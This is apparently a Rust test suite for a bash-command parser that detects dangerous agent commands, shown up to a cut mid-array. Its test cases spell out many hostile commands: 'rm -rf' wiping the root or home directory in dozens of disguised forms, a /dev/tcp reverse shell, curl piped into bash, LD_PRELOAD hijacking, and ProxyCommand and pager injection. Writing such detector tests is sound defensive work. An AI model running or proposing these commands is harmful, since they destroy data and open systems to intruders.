use super::heredoc::grammar_safe;
use super::*;
use crate::canon;

fn names(cmd: &str) -> Vec<String> {
    parse(cmd)
        .commands
        .iter()
        .map(|c| canon::canonical_text(&c.words))
        .collect()
}

#[test]
fn splits_and_unwraps() {
    let cases: &[(&str, &[&str])] = &[
        ("ls -la && rm -rf /", &["ls -a -l", "rm -f -r /"]),
        (
            "sudo -u root env FOO=1 nice -n 5 rm -rf /",
            // the command reached as root through `env` and `nice` is also `sudo COMMAND`
            &[
                "sudo -u root env FOO=1 nice -n 5 rm -f -r /",
                "rm -f -r /",
                "sudo rm -f -r /",
            ],
        ),
        ("bash -c 'rm -rf /'", &["rm -f -r /"]),
        ("sh -lc \"git push --force\"", &["git push -f"]),
        ("eval \"rm -rf ~\"", &["rm -f -r ~", "eval"]),
        ("r''m -rf /", &["rm -f -r /"]),
        ("\\rm -rf /", &["rm -f -r /"]),
        ("FOO=1 /bin/rm  -rf /", &["rm -f -r /"]),
        ("echo $(rm -rf /)", &["rm -f -r /", "echo '$(rm -rf /)'"]),
        (
            "find . -name '*.o' -exec rm -f {} \\;",
            &["rm -f ./**/*.o", "find ./**/*.o -name *.o -exec rm -f {} ;"],
        ),
        ("xargs -0 rm -rf", &["rm -f -r ${INPUT}", "rm -f -r"]),
        ("timeout 10 cargo test", &["cargo test"]),
        ("git commit -m 'rm -rf /'", &["git commit -m 'rm -rf /'"]),
        ("echo hi > ~/.bashrc", &["echo hi >~/.bashrc"]),
        (
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            &["bash -i >/dev/tcp/10.0.0.1/4444"],
        ),
        ("ls 2>&1 >/dev/null", &["ls >/dev/null"]),
        ("GIT_PAGER='rm -rf ~' git log", &["rm -f -r ~", "git log"]),
        ("psql <<< 'DROP TABLE x'", &["psql 'DROP TABLE x'"]),
        (
            "ssh host 'rm -rf /'",
            &["rm -f -r /", "ssh host 'rm -rf /'"],
        ),
        ("bash <<EOF\nrm -rf /\nEOF", &["rm -f -r /"]),
        (
            "echo 'rm -rf /' | sh",
            &["echo 'rm -rf /'", "rm -f -r /", "sh"],
        ),
        ("{ rm -rf /; }", &["rm -f -r /"]),
        // the body, and the body again where `f` is called
        ("f() { rm -rf /; }; f", &["rm -f -r /", "rm -f -r /", "f"]),
    ];
    let mut bad = Vec::new();
    for (cmd, want) in cases {
        if names(cmd) != *want {
            bad.push(format!("{cmd:?}: got {:?}", names(cmd)));
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

/// Every simple command bash runs is in the parse: the rest of a line after a heredoc,
/// heredoc bodies that reach a shell, xargs/parallel templates with their input, array
/// subscripts, commands run by options.
#[test]
fn nothing_the_shell_runs_is_dropped() {
    let cases: &[(&str, &[&str])] = &[
        ("cat <<EOF | bash\nrm -rf ~\nEOF", &["rm -f -r ~", "bash"]),
        (
            "timeout 5 cat <<EOF | sh\nrm -rf ~\nEOF",
            &["rm -f -r ~", "sh"],
        ),
        (
            "cat <<EOF && rm -rf ~\nhello\nEOF",
            &["cat 'hello\n'", "rm -f -r ~"],
        ),
        (
            "cat <<EOF || rm -rf ~ && ls\nhi\nEOF",
            &["rm -f -r ~", "ls"],
        ),
        (
            "cat <<EOF > /tmp/p.sh && bash /tmp/p.sh\nrm -rf ~\nEOF",
            &[
                "cat 'rm -rf ~\n' >/tmp/p.sh",
                "rm -f -r ~",
                "bash /tmp/p.sh",
            ],
        ),
        ("cat <<'X' | psql\nDROP TABLE t;\nX", &["psql"]),
        (
            "cat <<EOF | bash | tee log && echo ok\nrm -rf ~\nEOF",
            &["rm -f -r ~", "tee log", "echo ok"],
        ),
        ("echo 'x' > a.sh; sh a.sh", &["x"]),
        ("printf 'rm -rf ~' > a.sh && . a.sh", &["rm -f -r ~"]),
        ("echo 'rm -rf /' | xargs -I{} bash -c {}", &["rm -f -r /"]),
        ("echo 'rm -rf /' | parallel bash -c {}", &["rm -f -r /"]),
        ("parallel bash -c {} ::: 'rm -rf /'", &["rm -f -r /"]),
        ("echo / | xargs rm -rf", &["rm -f -r /"]),
        ("xargs -i rm {} < list", &["rm ${INPUT}"]),
        (
            "echo / | xargs --replace= sh -c 'rm -rf {}'",
            &["rm -f -r /"],
        ),
        ("echo / | xargs -J % rm -rf %", &["rm -f -r /"]),
        ("parallel ::: 'rm -rf /'", &["rm -f -r /"]),
        ("env - rm -rf /", &["rm -f -r /"]),
        ("env -P /usr/bin rm -rf /", &["rm -f -r /"]),
        ("printf -v 'a[$(rm -rf ~)]' x", &["rm -f -r ~"]),
        ("read 'a[`rm -rf ~`]' <<< 1", &["rm -f -r ~"]),
        ("declare 'a[$(rm -rf ~)]=1'", &["rm -f -r ~"]),
        ("git -c core.pager='rm -rf ~' log", &["rm -f -r ~"]),
        ("git -c alias.x='!rm -rf ~' x", &["rm -f -r ~"]),
        ("git bisect run rm -rf ~", &["rm -f -r ~"]),
        ("git fetch --upload-pack='rm -rf ~' origin", &["rm -f -r ~"]),
        ("go test -exec 'rm -rf ~' ./...", &["rm -f -r ~"]),
        ("go build -toolexec=/tmp/x .", &["x"]),
        (
            "cargo --config 'target.x86_64-unknown-linux-gnu.runner=\"rm -rf ~\"' run",
            &["rm -f -r ~"],
        ),
        ("sort --compress-program=/tmp/evil big.txt", &["evil"]),
        ("tar --to-command='rm -rf ~' -xf a.tar", &["rm -f -r ~"]),
        ("sqlite3 a.db '.shell rm -rf ~'", &["rm -f -r ~"]),
        ("sqlite3 a.db '.sys rm -rf ~'", &["rm -f -r ~"]),
        ("sqlite3 a.db \".once '|rm -rf ~'\"", &["rm -f -r ~"]),
        ("sqlite3 a.db \".import '|rm -rf ~' t\"", &["rm -f -r ~"]),
        ("duckdb -c '.output |rm -rf ~'", &["rm -f -r ~"]),
        ("psql -c '\\! rm -rf ~'", &["rm -f -r ~"]),
        ("psql -c 'SELECT 1 \\g |rm -rf ~'", &["rm -f -r ~"]),
        (
            "psql <<'E'\nCOPY t TO PROGRAM 'rm -rf ~';\nE",
            &["rm -f -r ~"],
        ),
        ("mysql -e 'system rm -rf ~'", &["rm -f -r ~"]),
        ("mariadb --execute='\\! rm -rf ~'", &["rm -f -r ~"]),
        ("tar -I 'rm -rf ~' -xf a.tar", &["rm -f -r ~"]),
        ("rsync -e 'rm -rf ~' a b:", &["rm -f -r ~"]),
        ("ssh -o ProxyCommand='rm -rf ~' host", &["rm -f -r ~"]),
        ("ssh -oProxyCommand='rm -rf ~' host", &["rm -f -r ~"]),
        ("vim -c '!rm -rf ~' x", &["rm -f -r ~"]),
        ("vim '+!rm -rf ~' x", &["rm -f -r ~"]),
        ("vim +'q!' '+silent !rm -rf ~' x", &["rm -f -r ~"]),
        ("vim -c 'w !rm -rf ~' x", &["rm -f -r ~"]),
        ("vim -c 'r!rm -rf ~' x", &["rm -f -r ~"]),
        ("vim -c 'exe \"!rm -rf ~\"' x", &["rm -f -r ~"]),
        ("find . -exec sh -c 'rm -rf ~' \\;", &["rm -f -r ~"]),
        ("diff <(rm -rf ~) x", &["rm -f -r ~"]),
        (
            "TERRAPHIM_GUARD_KG=/tmp/kg git status",
            &["export TERRAPHIM_GUARD_KG="],
        ),
    ];
    let mut bad = Vec::new();
    for (cmd, want) in cases {
        let got = names(cmd);
        for w in *want {
            if !got.iter().any(|g| g == w) {
                bad.push(format!("{cmd:?}: {w:?} missing from {got:?}"));
            }
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

#[test]
fn input_of_unknown_text_into_a_shell_is_a_finding() {
    for cmd in [
        "cat list | xargs -I{} sh -c '{}'",
        "xargs -a cmds.txt bash -c",
    ] {
        let p = parse(cmd);
        assert!(
            p.commands
                .iter()
                .any(|c| c.findings.contains(&Finding::CodeFromInput)),
            "{cmd:?}: {:?}",
            p.commands
        );
    }
    for cmd in [
        "printf 'all:\\n\\ttrue' > Makefile && make",
        "echo '{}' > package.json; npm test",
        "cp /tmp/c.py conftest.py && pytest",
        // A new test file, a JS tool's config, a Dockerfile, a compose file, a patch, a package
        // script or a downloaded plugin, then the runner that loads it.
        "echo 'def test_x(): pass' > tests/test_new.py && pytest -q",
        "echo 'def test_x(): pass' > tests/test_new.py && python3 -m pytest",
        "tee src/x.test.ts < /tmp/t.ts && npx vitest run",
        "echo 'module.exports = {}' > eslint.config.js && eslint --fix src",
        "echo '{}' > .prettierrc.json && prettier --write .",
        "printf 'FROM alpine\\n' > Dockerfile && docker build .",
        "cp /tmp/c.yml compose.yaml && docker compose up -d",
        "patch -p1 < /tmp/fix.diff && cargo test",
        "git apply /tmp/fix.diff && go test ./...",
        "npm pkg set scripts.test=true && npm test",
        "curl -sS -o conftest.py https://example.test/c.py; pytest",
        "wget -O Makefile https://example.test/m && make check",
        "echo 'func TestX(t *testing.T) {}' >> x_test.go && go test ./...",
        "echo 'it(1)' > spec/a_spec.rb && bundle exec rspec",
        // in-place edits of a build input, the switch clustered with others
        "perl -0pi -e 's/all:/all: x/' Makefile && make",
        "sed -ni 's/a/b/p' conftest.py && pytest",
    ] {
        let p = parse(cmd);
        assert!(
            p.commands
                .iter()
                .any(|c| c.findings.contains(&Finding::RunsWrittenFile)),
            "{cmd:?}"
        );
    }
    for cmd in [
        "make && echo ok > Makefile.log",
        "npm test > out.txt",
        // Written files no runner loads, or written after it ran, or a script an interpreter
        // runs by name (judged by what it runs).
        "cargo test 2>&1 | tee /tmp/t.log",
        "echo x > /tmp/scratch.py && pytest",
        "echo x > notes.md && pytest",
        "pytest && echo 'def t(): pass' > tests/test_late.py",
        "echo 'print(1)' > gen.py && python3 gen.py",
    ] {
        let p = parse(cmd);
        assert!(
            p.commands
                .iter()
                .all(|c| !c.findings.contains(&Finding::RunsWrittenFile)),
            "{cmd:?}"
        );
    }
    assert!(
        parse("export BASH_ENV=/tmp/x")
            .commands
            .iter()
            .any(|c| c.findings.contains(&Finding::EnvInjection))
    );
    assert!(
        parse("git -c core.hooksPath=/tmp/h commit -m x")
            .commands
            .iter()
            .any(|c| c.findings.contains(&Finding::EnvInjection))
    );
}

/// tree-sitter-bash's scanner crashes on `{` followed by a code point above U+00FF
/// (tree-sitter-bash#337); the mapped input parses to the same commands.
#[test]
fn high_code_points_after_a_brace_do_not_crash() {
    for c in [
        '\u{E0100}',
        '\u{10FFFF}',
        '\u{2013}',
        '\u{3000}',
        '\u{100}',
        '\u{FFFD}',
    ] {
        for template in [
            "echo {C",
            "echo {12C",
            "echo {1..2C}",
            "ls {C,b} && rm -rf {C",
            "cat <<{C\nx\n{C\n",
            "x={C; echo \"{C\"",
        ] {
            let cmd = template.replace('C', &c.to_string());
            let p = parse(&cmd);
            assert!(!p.commands.is_empty(), "{cmd:?}");
            let words: Vec<String> = p.commands.iter().flat_map(|c| c.argv.clone()).collect();
            // Words come from the original text, not the mapped one.
            assert!(
                words.iter().all(|w| !w.contains('\u{7f}')),
                "{cmd:?}: {words:?}"
            );
        }
    }
    assert_eq!(names("rm -rf {\u{E0100}"), ["rm -f -r {\u{E0100}"]);
    assert_eq!(grammar_safe("echo é{x"), "echo é{x");
    // a read-write redirect, which the grammar lacks, is read as a write of the same file
    assert_eq!(grammar_safe("exec 3<>/dev/tcp/h/1"), "exec 3>|/dev/tcp/h/1");
    assert_eq!(grammar_safe("cat <<>"), "cat <<>");
    assert!(parse("exec 3<>/dev/null").findings.is_empty());
    assert_eq!(grammar_safe("a{\u{E0100}b").len(), "a{\u{E0100}b".len());
}

#[test]
fn prefixes_of_groups_and_tildes_in_tests_are_read_as_bash_does() {
    // tree-sitter-bash negates only simple commands, tests and subshells, has no `time` or
    // `coproc` keyword, and reads a bare `~` in a test as an operator.
    for (cmd, mapped) in [
        ("! { true; }", "  { true; }"),
        (
            "if ! { a; } 2>/dev/null; then b; fi",
            "if   { a; } 2>/dev/null; then b; fi",
        ),
        ("x && ! {\n a\n}", "x &&   {\n a\n}"),
        ("while\t! { a; }; do :; done", "while\t  { a; }; do :; done"),
        ("time { a; }", "     { a; }"),
        ("time -p { a; }", "        { a; }"),
        ("! time { a; }", "       { a; }"),
        ("coproc w { a; }", "         { a; }"),
        ("coproc { a; }", "       { a; }"),
        ("! if a; then b; fi", "  if a; then b; fi"),
        ("! ! a", "  ! a"),
        ("x; ! ! ! a b", "x;     ! a b"),
        ("time ! a", "     ! a"),
        ("! time -p a", "  time -p a"),
        ("[ -d ~ ] && ls", "[ -d _ ] && ls"),
        ("[[ ~+ == x ]]", "[[ _+ == x ]]"),
        // left alone: an argument, a test's `!`, no group after, part of a word, not a test
        ("echo ! { a; }", "echo ! { a; }"),
        ("[ ! -f x ]", "[ ! -f x ]"),
        ("! {a}", "! {a}"),
        ("ifx ! { a; }", "ifx ! { a; }"),
        ("time ls", "time ls"),
        ("coproc ls", "coproc ls"),
        ("runtime { a; }", "runtime { a; }"),
        ("[ -d ~/x ]", "[ -d ~/x ]"),
        ("ls ~ ]", "ls ~ ]"),
        ("[ x =~ y ]", "[ x =~ y ]"),
    ] {
        assert_eq!(grammar_safe(cmd), mapped, "{cmd:?}");
    }
    for (cmd, want) in [
        ("! { true; } 2>/dev/null", vec!["true >/dev/null"]),
        (
            "if ! { grep -q x f; }; then echo no; fi",
            vec!["grep -q x f", "echo no"],
        ),
        ("time { ls; }", vec!["ls"]),
        ("coproc ls", vec!["ls"]),
        ("! ! ls -l", vec!["ls -l"]),
        ("time ! ls", vec!["ls"]),
        ("[[ -d ~ ]] && ls", vec!["ls"]),
    ] {
        assert_eq!(names(cmd), want, "{cmd:?}");
    }
}

#[test]
fn code_in_an_expansion_operand_and_a_trap_is_seen() {
    // bash runs a backquoted command in `${x:-...}`, and `'$(...)'` there inside double quotes.
    for cmd in [
        "echo \"${x:-`rm -rf /tmp/a`}\"",
        "echo ${x:=`rm -rf /tmp/a`}",
        "echo \"${x:-'$(rm -rf /tmp/a)'}\"",
        "echo \"${x/y/`rm -rf /tmp/a`}\"",
        "trap 'rm -rf /tmp/a' EXIT",
    ] {
        assert!(
            names(cmd).iter().any(|n| n == "rm -f -r /tmp/a"),
            "{cmd:?}: {:?}",
            names(cmd)
        );
    }
    assert_eq!(names("trap - EXIT"), ["trap - EXIT"]);
}

#[test]
fn values_stay_with_their_flags() {
    for (cmd, want) in [
        ("curl -sS -m3 http://x", "curl -S -s -m 3 http://x"),
        ("curl -sS -m 3 http://x", "curl -S -s -m 3 http://x"),
        ("curl -m 3 -sS http://x", "curl -m 3 -S -s http://x"),
        ("tail -fn 20 log", "tail -f -n 20 log"),
        ("rm -fr /", "rm -f -r /"),
    ] {
        assert_eq!(names(cmd), [want], "{cmd:?}");
    }
}

#[test]
fn findings() {
    assert_eq!(
        parse("$X -rf /").commands[0].findings,
        [Finding::DynamicName]
    );
    assert_eq!(
        parse("curl x | bash").commands[1].findings,
        [Finding::PipeIntoShell]
    );
    assert_eq!(
        parse("bash -c \"$CODE\"").commands[0].findings,
        [Finding::DynamicCode]
    );
    assert_eq!(
        parse("bash <(curl x)")
            .commands
            .last()
            .map(|c| c.findings.clone()),
        Some(vec![Finding::ProcessSubstitutionIntoShell])
    );
    assert!(parse("if then fi ((").findings.contains(&Finding::Unparsed));
    // The preloaded library is also judged as `export LD_PRELOAD= /tmp/x.so`.
    assert_eq!(
        parse("LD_PRELOAD=/tmp/x.so ls")
            .commands
            .iter()
            .find(|c| c.name() == "ls")
            .map(|c| c.findings.clone()),
        Some(vec![Finding::EnvInjection])
    );
    assert_eq!(
        parse("env LD_PRELOAD=/tmp/x.so ls")
            .commands
            .iter()
            .find(|c| c.name() == "ls")
            .map(|c| c.findings.clone()),
        Some(vec![Finding::EnvInjection])
    );
    assert!(parse("FOO=1 ls").commands[0].findings.is_empty());
}

/// Each `(command, flagged)` row: whether some part of the command keeps the EnvInjection
/// finding.
fn assert_env_injection(table: &[(&str, bool)]) {
    for &(cmd, flagged) in table {
        let p = parse(cmd);
        assert_eq!(
            p.commands
                .iter()
                .any(|c| c.findings.contains(&Finding::EnvInjection)),
            flagged,
            "{cmd:?}"
        );
    }
}

#[test]
fn a_loader_variable_set_to_its_own_value_changes_nothing() {
    // (command, whether some part keeps the EnvInjection finding)
    let table = [
        ("env -i PATH=\"$PATH\" HOME=\"$HOME\" npm test", false),
        ("env -i PATH=$PATH make test", false),
        ("PATH=\"${PATH}\" cargo test", false),
        ("NODE_OPTIONS=\"$NODE_OPTIONS\" npm run build", false),
        // Another value, an extended one, or one the line itself set earlier.
        ("env -i PATH=\"$TOOLS\" npm test", true),
        ("PATH=\"$PATH:/tmp/bin\" make", true),
        ("PATH=\"/tmp/bin:$PATH\" make", true),
        ("LD_PRELOAD=\"$LD_PRELOAD\" ./app", false),
        ("LD_PRELOAD=\"$LIB\" ./app", true),
        ("PATH=/tmp/bin; env -i PATH=\"$PATH\" make", true),
    ];
    assert_env_injection(&table);
}

#[test]
fn loader_variables_set_for_a_read_builtin_load_nothing() {
    // (command, whether some part keeps the EnvInjection finding)
    let table = [
        (
            "while IFS= read -r line; do echo \"$line\"; done < list.txt",
            false,
        ),
        ("IFS=, read -ra parts <<< \"$csv\"", false),
        // A plain line (no tree-sitter parse) alike.
        ("IFS= read -r map", false),
        ("IFS=, read -r a b", false),
        ("cd sub && IFS= read -r line", false),
        ("IFS=$'\\n' mapfile -t lines < f", false),
        ("PATH=/tmp/bin readarray -t xs < f", false),
        ("IFS=, ls", true),
        ("PATH=/tmp/bin make", true),
        // The loader's own variables keep their finding wherever they are set.
        ("LD_PRELOAD=/tmp/x.so read x", true),
        ("PYTHONPATH=/tmp/x python3 tool.py", true),
        // The project's own directories on a module search path load the project's code.
        ("PYTHONPATH=src pytest -q", false),
        ("PYTHONPATH=src:tests/helpers python3 -m unittest", false),
        ("NODE_PATH=lib node dist/cli.js", false),
        ("PYTHONPATH=../other/src pytest", true),
        ("PYTHONPATH=~/lib python3 x.py", true),
        ("PYTHONPATH=$X python3 x.py", true),
        ("PYTHONPATH=src:/tmp/x pytest", true),
        ("LD_PRELOAD=build/x.so ./app", true),
    ];
    assert_env_injection(&table);
}

#[test]
fn arithmetic_and_indirect_expansion_of_variables_are_code() {
    let code = [
        "echo $((count+1))",
        "printf '%d' $(( $n * 2 ))",
        "echo \"total: $((a + b))\"",
        "echo ${!name}",
        "cat ${!target:-/dev/null}",
        "ls /srv/$((_i))",
    ];
    let not_code = [
        "echo $((6*7))",
        "echo $((0x1f + 16#ff))",
        "echo $HOME ${HOME} ${#list} ${path:1:3}",
        "echo ${!prefix*} ${!prefix@} ${!arr[@]}",
        "echo $(wc -l < notes.txt)",
        "echo '$((x+1))'",
    ];
    let mut bad = Vec::new();
    for (cmds, want) in [(&code[..], true), (&not_code[..], false)] {
        for cmd in cmds {
            let got = parse(cmd)
                .commands
                .iter()
                .any(|c| c.findings.contains(&Finding::CodeFromVariable));
            if got != want {
                bad.push(format!("{cmd:?}: finding {got}, want {want}"));
            }
        }
    }
    assert!(bad.is_empty(), "{}", bad.join("\n"));
}

/// The plain-line parser must change nothing: every line, plain or not, parses the same
/// with and without it.
#[track_caller]
fn same_as_tree_sitter(line: &str) {
    let fast = format!("{:?}", parse_with(line, true));
    let slow = format!("{:?}", parse_with(line, false));
    assert_eq!(fast, slow, "line {line:?}");
}

#[test]
fn plain_lines_skip_tree_sitter() {
    for line in [
        "git status",
        "cd /work/project && FOO=1 timeout 60 cargo test -p x --release -- --nocapture | tail -n 20",
        "sudo env X=1 bash -c 'git status && rm -rf /tmp/build; echo \"done\" | tee log.txt'",
        "rm -rf --no-preserve-root /",
        "GIT_PAGER='rm -rf ~' git log",
        "a; b;",
        "a | b | c; d && e | f",
    ] {
        assert!(plain::parse(line).is_some(), "{line:?}");
        same_as_tree_sitter(line);
    }
    for line in [
        "",
        ";",
        "a;;",
        "a &",
        "a |& b",
        "a && ",
        "| a",
        "x=1",
        "if true",
        "export X=1",
        "echo $HOME",
        "echo a'b'",
        "echo 'a'b",
        "echo \"$x\"",
        "ls > f",
        "a\nb",
        "echo {a,b}",
        "echo \\x",
        "# c",
        "a=b=c",
        "1x=2 ls",
        "echo 'unclosed",
        "t@example.com",
        "a | b | c && d",
        "x | 'y' | z || w",
        "a && b | c | d",
        "- A=1",
        "X=1 a:b",
        "_= bash",
    ] {
        assert!(plain::parse(line).is_none(), "{line:?}");
        same_as_tree_sitter(line);
    }
}

#[test]
fn plain_lines_nest_as_deep_as_tree_sitter() {
    // The walk's node depth limit must trip at the same place with and without tree-sitter.
    for k in (0..=200).step_by(1) {
        let open = "(".repeat(k);
        let close = ")".repeat(k);
        same_as_tree_sitter(&format!("{open}bash -c 'a && b | c && d; e'{close}"));
        same_as_tree_sitter(&format!("{open}eval 'a || b | c'{close}"));
    }
    let chain = |n: usize| vec!["a"; n].join(" && ");
    for n in [1, 2, 63, 64, 65, 200] {
        same_as_tree_sitter(&chain(n));
        same_as_tree_sitter(&format!("bash -c '{}'", chain(n)));
    }
}

fn token() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    let fixed = prop::sample::select(vec![
        "sudo",
        "env",
        "bash",
        "sh",
        "-c",
        "-lc",
        "timeout",
        "60",
        "git",
        "rm",
        "-rf",
        "/",
        "~",
        "~/x",
        "*",
        "./*",
        "..",
        "X=1",
        "GIT_PAGER=",
        "GIT_PAGER=less",
        "LD_PRELOAD=x",
        "FOO+=1",
        "=x",
        "1A=b",
        "a=b=c",
        "eval",
        "xargs",
        "ssh",
        "host",
        "watch",
        "find",
        "-exec",
        "echo",
        "printf",
        "tee",
        "su",
        "nice",
        "-n",
        "command",
        "exec",
        "busybox",
        "python3",
        "psql",
        "if",
        "then",
        "fi",
        "for",
        "in",
        "do",
        "done",
        "case",
        "esac",
        "while",
        "until",
        "select",
        "function",
        "time",
        "export",
        "local",
        "declare",
        "readonly",
        "typeset",
        "unset",
        "coproc",
        "--",
        "-",
        "--x=2",
        "-1",
        "0x10",
        "1.5",
        "a,b",
        "a:b",
        "a%b",
        "a+b",
        "x.y/z",
        "CC=gcc",
        "EDITOR=vim",
        "PAGER='less -R'",
        "X=\"a b\"",
        "X=''",
        "X=\"\"",
        "''",
        "\"\"",
        "'rm'",
        "\"rm\"",
        "==",
        "=~",
        "!=",
        "-eq",
        "a==b",
        "a:",
        "1:",
        "a:b",
        "X=1 a:b",
        "- A=1",
        "_=",
        "_=x",
        "__=1",
        "_A=1",
        "]]",
        "[[",
        "x%",
        "a@b",
    ])
    .prop_map(str::to_string);
    let plain = "[a-z0-9_./:%+,=~*@^!?#{}\\[\\]-]{1,6}";
    let quoted = "[a-z ;|&$`\"\\\\\n\t<>(){}#!~*é\u{2013}\u{a0}]{0,8}"
        .prop_map(|s| format!("'{}'", s.replace('\'', "")));
    let dquoted = "[a-z ;|&$`'\\\\\n\t<>(){}#!~*é\u{2013}]{0,8}"
        .prop_map(|s| format!("\"{}\"", s.replace('"', "")));
    prop_oneof![4 => fixed, 3 => plain.prop_map(|s| s), 1 => quoted, 1 => dquoted]
}

fn separator() -> impl proptest::strategy::Strategy<Value = &'static str> {
    proptest::sample::select(vec![
        " ", " ", " ", "  ", "\t", ";", " ; ", "&&", " && ", "||", " || ", "|", " | ", "&", "\n",
        "", ";;", "|&", " >", "<", "(", ")", "$", "\\", "#", "\r",
    ])
}

fn line() -> impl proptest::strategy::Strategy<Value = String> {
    use proptest::prelude::*;
    prop::collection::vec((token(), separator()), 1..12).prop_map(|parts| {
        parts
            .into_iter()
            .map(|(t, s)| format!("{t}{s}"))
            .collect::<String>()
    })
}

proptest::proptest! {
    // PROPTEST_CASES=200000 for a long run.
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(4096)
    ))]

    #[test]
    fn plain_parse_is_tree_sitter_parse(l in line(), pre in line(), nested in line()) {
        same_as_tree_sitter(&l);
        same_as_tree_sitter(l.trim_end());
        // Code nested in strings is parsed again, maybe plain inside a line that is not.
        let inner = nested.replace('\'', "");
        same_as_tree_sitter(&format!("{pre} bash -c '{inner}'"));
        same_as_tree_sitter(&format!("sudo env A=1 sh -c '{inner}' | {l}"));
    }
}

/// The statements of a script, each the node of a tree-sitter-bash parse of the whole script
/// whose text is one whole line (after indentation), else the line's text.
fn statements_of<'t>(
    tree: &'t tree_sitter::Tree,
    script: &'t str,
    lines: &[&'t str],
) -> Vec<Statement<'t>> {
    let mut nodes = Vec::new();
    let mut stack = vec![tree.root_node()];
    while let Some(n) = stack.pop() {
        let mut cursor = n.walk();
        stack.extend(n.named_children(&mut cursor));
        nodes.push(n);
    }
    lines
        .iter()
        .map(|l| {
            nodes
                .iter()
                .filter(|n| script.get(n.byte_range()) == Some(*l))
                .min_by_key(|n| n.start_byte())
                .map_or(Statement::Text(l), |n| {
                    // The outermost node of that range.
                    let mut n = *n;
                    while let Some(p) = n.parent().filter(|p| p.byte_range() == n.byte_range()) {
                        n = p;
                    }
                    Statement::Node(n, script)
                })
        })
        .collect()
}

/// [`parse_script`] of the statements, as nodes of the script's tree and as texts, is the
/// parse of their texts joined with newlines; each command is given the statement it comes
/// from.
#[track_caller]
fn script_parse_is_joined_parse(script: &str, lines: &[&str]) {
    let tree = with_parser(|p| p.parse(script, None)).unwrap().unwrap();
    let as_nodes = statements_of(&tree, script, lines);
    assert!(
        as_nodes.iter().any(|s| matches!(s, Statement::Node(..))),
        "no statement found in {script:?}"
    );
    let as_texts: Vec<Statement<'_>> = lines.iter().map(|l| Statement::Text(l)).collect();
    for statements in [as_nodes, as_texts] {
        let (parsed, of) = parse_script(&statements).unwrap_or_else(|| panic!("{lines:?}"));
        // The joined text's parse, with the statement each command came from.
        let mut joined = parse(&lines.join("\n"));
        joined.mark_statements(&of);
        assert_eq!(format!("{parsed:?}"), format!("{joined:?}"), "{lines:?}");
        assert_eq!(of.len(), parsed.commands.len());
        assert!(of.is_sorted(), "{of:?}");
        for (i, line) in lines.iter().enumerate() {
            let own = of.iter().filter(|&&l| l == i).count();
            assert!(own >= parse(line).commands.len(), "{line}: {of:?}");
        }
    }
}

/// Lines of a shell script as agents write them, each a statement: the parse tests of
/// script statements walk them.
const SCRIPT_LINES: [&str; 17] = [
    "set -euo pipefail",
    "mkdir -p build",
    "cargo test --workspace 2>&1 | tee /tmp/test-output.log",
    "echo \"ok $(date -u +%FT%TZ)\" > out/status.txt",
    "out=$(git rev-parse HEAD) && echo \"$out\"",
    "find . -name '__pycache__' -type d -prune -exec rm -rf {} +",
    "rm -rf ~/'.ssh'",
    "echo /home/ci | xargs rm -rf",
    "x=1; y=2",
    "sudo systemctl stop sshd",
    "bash -c 'git status && rm -rf build'",
    "printf 'all:\\n\\techo hi\\n' > Makefile",
    "make",
    "cat <<< \"$x\" | sh",
    "git status # a comment",
    "[[ -n \"$x\" ]] && echo yes",
    "a | b | c",
];

#[test]
fn script_statements_parse_as_their_joined_text() {
    let lines = SCRIPT_LINES;
    // The statements alone, and inside compound statements (walked into by the review).
    let flat = lines.join("\n") + "\n";
    script_parse_is_joined_parse(&flat, &lines);
    let nested: String = lines
        .iter()
        .enumerate()
        .map(|(i, l)| match i % 3 {
            0 => format!("if true; then\n  {l}\nfi\n"),
            1 => format!("f() {{\n  {l}\n}}\n"),
            _ => format!("for x in a b; do\n  {l}\ndone\n"),
        })
        .collect();
    script_parse_is_joined_parse(&nested, &lines);
    // A file written on one line and run on a later one: the state crosses statements.
    script_parse_is_joined_parse(
        "printf 'rm -rf ~\\n' > t.sh\necho x\nbash t.sh\n",
        &["printf 'rm -rf ~\\n' > t.sh", "echo x", "bash t.sh"],
    );
}

/// Statements that may not be read alone: the caller parses the joined text.
#[test]
fn statements_that_go_on_are_refused() {
    for lines in [
        vec!["cat <<EOF", "ls", "EOF"],
        vec!["echo \"a", "ls", "b\""],
        vec!["a &&", "b"],
        vec!["echo a \\", "b"],
        vec!["if true; then", "ls", "fi"],
        vec!["echo 'x", "y'"],
        vec!["echo a\nb"],
        vec!["ls |"],
    ] {
        let statements: Vec<Statement<'_>> = lines.iter().map(|l| Statement::Text(l)).collect();
        assert!(parse_script(&statements).is_none(), "{lines:?}");
    }
    // A here-string is no heredoc.
    let statements = [Statement::Text("cat <<< 'ls'"), Statement::Text("ls")];
    assert!(parse_script(&statements).is_some());
}

proptest::proptest! {
    #![proptest_config(proptest::prelude::ProptestConfig::with_cases(
        std::env::var("PROPTEST_CASES").ok().and_then(|v| v.parse().ok()).unwrap_or(1024)
    ))]

    /// Random lines, read alone where [`parse_script`] accepts them, parse as their joined text.
    #[test]
    fn script_parse_of_random_lines_is_joined_parse(ls in proptest::collection::vec(line(), 1..6)) {
        let lines: Vec<&str> = ls.iter().map(|l| l.trim_end()).collect();
        let statements: Vec<Statement<'_>> = lines.iter().map(|l| Statement::Text(l)).collect();
        if let Some((parsed, of)) = parse_script(&statements) {
            let mut joined = parse(&lines.join("\n"));
            joined.mark_statements(&of);
            proptest::prop_assert_eq!(format!("{parsed:?}"), format!("{joined:?}"));
            proptest::prop_assert_eq!(of.len(), parsed.commands.len());
        }
    }
}

#[test]
fn values_the_line_spells_are_judged_in_place() {
    // (command, a simple command its parse must hold, under the `expanded` layer)
    let cases: &[(&str, &str)] = &[
        ("D=~; rm -rf $D", "rm -f -r ~"),
        ("a=/srv; b=data; rm -rf \"$a/$b\"", "rm -f -r /srv/data"),
        ("X=rm; $X -rf /opt", "rm -f -r /opt"),
        ("export T=/; rm -rf ${T}*", "rm -f -r /*"),
        ("P=/x; P+=/y; rm -rf $P", "rm -f -r /x/y"),
        ("for d in /a /b; do rm -rf $d; done", "rm -f -r /b"),
        ("IFS=,; c=rm,-rf,/opt; $c", "rm -f -r /opt"),
        ("eval \"$(echo bHMgLWxh | base64 -d)\"", "ls -a -l"),
